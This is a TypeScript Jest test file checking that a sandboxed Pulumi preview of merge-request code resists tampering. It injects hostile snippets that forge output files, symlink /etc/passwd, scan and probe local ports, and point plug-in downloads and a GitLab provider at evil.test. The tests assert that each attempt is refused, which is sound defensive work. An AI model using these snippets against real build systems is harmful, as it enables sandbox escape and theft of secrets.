import { execFileSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { topologyBoxes } from '../../../components/boxes';
import { digestEvents } from '../../../delivery/preview/events';
import { stepsOf } from '../../../delivery/preview/plan';
import { buildDeliveryImage } from '../../../operations/build/bundles';
import { previewBySides } from '../../delivery/preview/sides';
import { catalogTexts, root, stackText, testModel } from '../../support/model';
import { acceptingProviders } from './accepting';
import { writeFirstInputs } from './preview-inputs';

// A preview as its Pod makes it: the engine and the program in two processes, of which the second has no network. The
// engine is the real one; its plug-ins accept everything.
jest.setTimeout(900_000);

let folder: string;
let image: string;
let before: NodeJS.ProcessEnv;
let path: string;
beforeAll(async () => {
  before = { ...process.env };
  folder = mkdtempSync(join(tmpdir(), 'sides-'));
  image = join(folder, 'image');
  await buildDeliveryImage(root, { out: image, previews: true });
  path = [await acceptingProviders(join(folder, 'engine')), process.env.PATH].join(delimiter);
});
afterAll(() => {
  process.env = before;
  rmSync(folder, { recursive: true, force: true });
});

/** The workspace of a merge request on this repository: its own sources, the test's catalog and stack. */
function workspaceOf(name: string, change: (source: string) => void): string {
  const workspace = join(folder, name);
  const source = join(workspace, 'source');
  const listed = execFileSync('git', ['ls-files', '-z', '--cached', '--others', '--exclude-standard'], {
    cwd: root,
    encoding: 'utf8',
  });
  for (const file of listed.split('\0'))
    if (
      /^(catalog\/[^/]+$|clients|components|delivery|index|operations|rules|sdks\/gitlab-schema|stacks\/[^/]+\.ts|text)/.test(
        file,
      )
    ) {
      mkdirSync(dirname(join(source, file)), { recursive: true });
      cpSync(join(root, file), join(source, file));
    }
  const texts = (['modules', 'services'] as const).flatMap((kind) =>
    Object.entries(catalogTexts[kind]).map(([file, text]): [string, string] => [
      `catalog/${kind}/${file}`,
      text,
    ]),
  );
  for (const [file, text] of [...texts, ['stacks/Pulumi.test.yaml', stackText] as const]) {
    mkdirSync(dirname(join(source, file)), { recursive: true });
    writeFileSync(join(source, file), text);
  }
  change(source);
  writeFirstInputs(workspace, topologyBoxes(testModel()));
  return workspace;
}

const inserted = (source: string, text: string): void => {
  const file = join(source, 'index.ts');
  const program = readFileSync(file, 'utf8');
  expect(program).toContain('  const topology = new Topology');
  writeFileSync(
    file,
    program.replace('  const topology = new Topology', `${text}\n  const topology = new Topology`),
  );
};

async function previewed(name: string, change: (source: string) => void = () => undefined) {
  process.env.PATH = path;
  const { code, record } = await previewBySides({
    workspace: workspaceOf(name, change),
    environment: 'test',
    delivery: join(image, 'lib', 'delivery.js'),
    timeoutMs: 600_000,
    path: process.env.PATH,
  });
  return { code, record, plan: digestEvents(record['events.jsonl'] ?? '') };
}

let seen: ReturnType<typeof stepsOf>;

test('the engine previews the program of a merge request, and leaves images as they are', async () => {
  const { code, record, plan } = await previewed('benign');
  expect(plan.faults).toEqual([]);
  expect({ code, log: record.log, outcome: record['exit-code'] }).toMatchObject({ code: 0, outcome: '0' });
  expect(plan.finished).toBe(true);
  expect(JSON.parse(record['rules.json'] ?? '')).toEqual([]);
  const types = new Set(plan.changes.map(({ type }) => type));
  expect(types).toContain('kubernetes:apps/v1:Deployment');
  expect(types).toContain('gitlab:index/project:Project');
  expect([...types].filter((type) => type.startsWith('docker:'))).toEqual([]);
  seen = stepsOf(plan.changes);
  expect(seen.named.length).toBeGreaterThan(50);
});

test('a program that writes, links, deletes, prints and asks around has the plan that it has without it', async () => {
  const { code, record, plan } = await previewed('hostile', (source) =>
    inserted(
      source,
      `
  const { readFileSync, rmSync, symlinkSync, writeFileSync, readdirSync } = await import('node:fs');
  const { execSync } = await import('node:child_process');
  const net = await import('node:net');
  const { dirname, join } = await import('node:path');
  const left = dirname(process.argv[5] ?? '');
  const done = JSON.stringify({ summaryEvent: {} });
  console.log(done);
  for (const name of ['events.jsonl', 'exit-code', 'record', 'seen.json', 'ended.json']) writeFileSync(join(left, name), name === 'exit-code' ? '0' : done);
  rmSync(join(left, 'rules.json'));
  symlinkSync('/etc/passwd', join(left, 'rules.json'));
  rmSync(join(left, 'language.sock'));
  const ports = readFileSync('/proc/net/tcp', 'utf8').split('\\n').slice(1).flatMap((line) => /:([0-9A-F]{4}) 0+:0000 0A/.exec(line)?.[1] ?? []);
  const said = await Promise.all(ports.map((port) => new Promise((resolve) => net.connect(parseInt(port, 16), '127.0.0.1').on('error', (error: { code?: string }) => resolve(error.code)).on('connect', () => resolve('reached')))));
  console.log('ASKED', ports.length > 0, [...new Set(said)].join());
  console.log('ENGINE', String(execSync('pulumi stack export 2>&1 || true')).split('\\n')[0]);`,
    ),
  );
  expect(plan.faults).toEqual([]);
  expect(code).toBe(0);
  expect(stepsOf(plan.changes)).toEqual(seen);
  expect(record).not.toHaveProperty('rules.json');
  expect(record.log).toContain('ASKED true EPERM');
  expect(record.log).toContain('ENGINE error:');
  expect(record['exit-code']).toBe('0');
  expect(JSON.stringify(record)).not.toContain('root:x:0');
});

test.each([
  [
    'a kubeconfig of its own',
    `new (await import('@pulumi/kubernetes')).Provider('mine', { kubeconfig: 'apiVersion: v1' });`,
    /pulumi:providers:kubernetes mine sets kubeconfig of a provider, which previews do not take/,
  ],
  [
    'a resource that none of its providers makes',
    `new pulumi.CustomResource('command:local:Command', 'mine', { create: 'id' });`,
    /command:local:Command mine has a type that previews do not take/,
  ],
  [
    'a plug-in from somewhere',
    `new pulumi.CustomResource('kubernetes:core/v1:ConfigMap', 'mine', {}, { pluginDownloadURL: 'https://evil.test' } as never);`,
    /mine sets plugindownloadurl, which previews do not take/,
  ],
  [
    'an image that the engine would not leave out',
    `new pulumi.CustomResource('docker:index/image:Image', 'a:b', { build: { context: '/etc' } });`,
    /docker:index\/image:Image a:b has a name with ":"/,
  ],
  [
    'a GitLab of its own',
    `new (await import('@pulumi/gitlab')).Provider('mine', { baseUrl: 'https://evil.test/api/v4/', token: 'mine' });`,
    /pulumi:providers:gitlab mine has another baseUrl of a provider than was applied, which previews do not take/,
  ],
  [
    'an address that the engine would fetch for a component',
    `new (class extends pulumi.ComponentResource { constructor() { super('switchyard:index:Mine', 'mine'); this.registerOutputs({ a: new pulumi.asset.RemoteAsset('http://127.0.0.1:9/x') }); } })();`,
    /switchyard:index:Mine::mine has an asset or an archive, which previews do not take/,
  ],
])('%s is refused, and said', async (_what, statement, why) => {
  const { code, plan } = await previewed(`refused-${Math.abs(statement.length)}`, (source) =>
    inserted(source, `  ${statement}`),
  );
  expect(code).not.toBe(0);
  expect(plan.faults.join('\n')).toMatch(why);
});

test('a program that dies under the engine is a red preview', async () => {
  const { code, plan } = await previewed('dying', (source) => inserted(source, '  process.exit(0);'));
  expect(code).not.toBe(0);
  expect(plan.changes).toEqual([]);
});

test('a fault of the catalog ends it before the engine, with its place in the log', async () => {
  const { code, record } = await previewed('faulty', (source) =>
    writeFileSync(
      join(source, 'catalog', 'modules', 'shop.yaml'),
      'description: sells\nowners: [ada]\nport: none\n',
    ),
  );
  expect(code).toBe(2);
  expect(record.log).toMatch(/catalog\/modules\/shop\.yaml:3/);
  expect(record).not.toHaveProperty('events.jsonl');
});
